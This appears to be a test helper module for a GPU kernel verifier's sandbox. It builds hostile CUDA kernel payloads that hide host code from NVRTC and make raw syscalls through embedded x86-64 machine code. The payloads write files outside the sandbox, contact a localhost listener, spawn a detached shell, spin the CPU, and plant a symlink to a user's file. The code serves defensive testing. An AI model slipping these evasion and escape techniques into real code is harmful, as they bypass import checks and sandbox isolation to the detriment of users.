"""Hostile payloads, written for these tests, and the tools to watch what they manage.

Kernel payloads hide host code from NVRTC behind `#if __has_include(<unistd.h>)` (NVRTC has no
system headers; a named host macro such as __linux__ is refused by the CPU backend now) and run
it when the CPU backend loads the kernel's library (a global constructor). They import no host
function (the import check would refuse them): system calls go through a few bytes of x86-64
machine code placed in the executable section and called through a pointer, as the issue
showed. Reference payloads are plain Python. Each payload aims at a place the test watches: a
file outside the scratch folder, a socket listening on this machine, a process left running.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

from selftest_spec import write_selftest_spec

ROOT = Path(__file__).resolve().parents[2]

COPY_KERNEL = r'''
extern "C" __global__ void copy_k(const float* a, float* c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i];
}
'''

# syscall(number, a1..a6) as machine code: rax <- rdi, rdi <- rsi, rsi <- rdx, rdx <- rcx,
# r10 <- r8, r8 <- r9, r9 <- the stacked 7th argument, syscall, ret. Placed in .text it is
# executable without any import.
TRAMPOLINE = r'''
#if __has_include(<unistd.h>)  // true for the host compiler only (NVRTC has no system headers)
typedef long (*ks_raw_t)(long, long, long, long, long, long, long);
__attribute__((section(".text"))) static const unsigned char ks_code[] = {
    0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
    0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05, 0xc3};
static long ks_sys(long n, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0,
                   long f = 0)
{
    return ((ks_raw_t)(const void*)ks_code)(n, a, b, c, d, e, f);
}
struct ks_addr { unsigned short family, port; unsigned int ip; char zero[8]; };
#endif
'''

WRITE = r'''
#if __has_include(<unistd.h>)  // true for the host compiler only (NVRTC has no system headers)
__attribute__((constructor)) static void ks_payload()
{
    const char* targets[] = {TARGETS};
    for (const char* path : targets) {
        long fd = ks_sys(257 /* openat */, -100, (long)path, 01101, 0644);
        if (fd >= 0) ks_sys(1 /* write */, fd, (long)"escaped", 7);
    }
}
#endif
'''

NETWORK = r'''
#if __has_include(<unistd.h>)  // true for the host compiler only (NVRTC has no system headers)
__attribute__((constructor)) static void ks_payload()
{
    ks_addr to = {2, (unsigned short)((PORT >> 8) | ((PORT & 0xff) << 8)), 0x0100007f, {0}};
    long tcp = ks_sys(41 /* socket */, 2, 1, 0);
    if (ks_sys(42 /* connect */, tcp, (long)&to, 16) == 0) ks_sys(1, tcp, (long)"escaped", 7);
    long udp = ks_sys(41, 2, 2, 0);
    ks_sys(44 /* sendto */, udp, (long)"escaped", 7, 0, (long)&to, 16);
}
#endif
'''

SPAWN = r'''
#if __has_include(<unistd.h>)  // true for the host compiler only (NVRTC has no system headers)
__attribute__((constructor)) static void ks_payload()
{
    if (ks_sys(57 /* fork */) != 0) return;
    ks_sys(112 /* setsid */);
    if (ks_sys(57) == 0) {
        const char* argv[] = {"/bin/sh", "-c",
                              "id > MARKER; for i in $(seq 120); do sleep 1; done", "TOKEN", 0};
        const char* envp[] = {0};
        ks_sys(59 /* execve */, (long)"/bin/sh", (long)argv, (long)envp);
    }
    ks_sys(231 /* exit_group */, 0);
}
#endif
'''

SPIN = r'''
#if __has_include(<unistd.h>)  // true for the host compiler only (NVRTC has no system headers)
__attribute__((constructor)) static void ks_payload()
{
    volatile unsigned long turns = 0;
    for (;;) turns = turns + 1;
}
#endif
'''


# Run by the kernel itself, once: replace the output's buffer file in the shared session folder
# with a link to a file of the user's. Its folder is made in the sandbox's private /tmp first,
# so the worker's own write-back succeeds there; outside, the link names the real file.
PLANT = r'''
#if __has_include(<unistd.h>)  // true for the host compiler only (NVRTC has no system headers)
static void ks_plant()
{
    static int done = 0;
    if (done) return;
    done = 1;
    char folder[] = VICTIM_DIR;
    for (char* p = folder + 1; *p; ++p) {
        if (*p == '/') { *p = 0; ks_sys(83 /* mkdir */, (long)folder, 0700); *p = '/'; }
    }
    ks_sys(83, (long)folder, 0700);
    // The session folder is the worker's working folder: a relative name lands there.
    char buffer[] = "buffer-c.bin";
    ks_sys(87 /* unlink */, (long)buffer);
    ks_sys(88 /* symlink */, (long)VICTIM, (long)buffer);
}
#define KS_PLANT() ks_plant()
#else
#define KS_PLANT()
#endif
extern "C" __global__ void copy_k(const float* a, float* c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i == 0) KS_PLANT();
    if (i < n) c[i] = a[i];
}
'''


def c_string(text: str) -> str:
    """A C string literal."""
    return json.dumps(text)


def kernel_spec(folder: Path, payload: str, seeds: int = 1, **values: str) -> Path:
    """A vector copy spec whose kernel carries `payload` (its placeholders replaced; a payload
    that defines copy_k itself replaces the plain one)."""
    spec = write_selftest_spec(folder, "copy_k", seeds=seeds)
    for name, value in values.items():
        payload = payload.replace(name, value)
    kernel = "" if "copy_k" in payload else COPY_KERNEL
    (folder / "k.cu").write_text(TRAMPOLINE + payload + kernel)
    return spec


def reference_spec(folder: Path, body: str) -> Path:
    """A vector copy spec whose reference runs `body` (indented Python) before answering."""
    spec = write_selftest_spec(folder, "copy_k", seeds=1)
    (folder / "k.cu").write_text(COPY_KERNEL)
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    (folder / "ref.py").write_text(f"import os, socket, sys, time\n\n\ndef reference(a, n):\n"
                                   f"{lines}\n    return {{'c': a}}\n")
    return spec


@dataclass
class Outcome:
    """What the command line said and how long it took."""

    code: int
    stdout: str
    stderr: str
    seconds: float

    @property
    def verdict(self) -> dict[str, object]:
        """The JSON verdict."""
        data: dict[str, object] = json.loads(self.stdout)
        return data


def verify(spec: Path, *args: str, env: dict[str, str] | None = None,
           timeout: float = 240) -> Outcome:
    """`kernel-studio verify SPEC --backend cpu --json ARGS` in a new process."""
    return cli("verify", str(spec), "--backend", "cpu", "--json", *args, env=env,
               timeout=timeout)


def cli(*args: str, env: dict[str, str] | None = None, timeout: float = 240) -> Outcome:
    """kernel-studio in a new process, as a user runs it."""
    started = time.perf_counter()
    done = subprocess.run([sys.executable, "-m", "app", *args], capture_output=True, text=True,
                          timeout=timeout, cwd=ROOT, env={**os.environ, **(env or {})},
                          check=False)
    return Outcome(done.returncode, done.stdout, done.stderr, time.perf_counter() - started)


def new_token() -> str:
    """A word that names one test's processes."""
    return f"ks-payload-{uuid.uuid4().hex[:12]}"


def processes_with(token: str) -> list[int]:
    """Pids whose command line holds the token."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def kill_all(token: str) -> None:
    """End what a control run left behind."""
    for pid in processes_with(token):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue


class Listeners:
    """A TCP and a UDP socket on 127.0.0.1, one port, to see whether anything reaches them."""

    def __init__(self) -> None:
        """Bind both (the port the system picks for TCP, the same for UDP)."""
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(4)
        self.tcp.settimeout(0.5)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.udp.settimeout(0.5)

    def reached(self) -> list[str]:
        """What arrived: 'tcp' for a connection, 'udp' for a datagram."""
        arrived = []
        try:
            connection, _ = self.tcp.accept()
            connection.close()
            arrived.append("tcp")
        except OSError:
            pass
        try:
            self.udp.recvfrom(64)
            arrived.append("udp")
        except OSError:
            pass
        return arrived

    def close(self) -> None:
        """Release both ports."""
        self.tcp.close()
        self.udp.close()
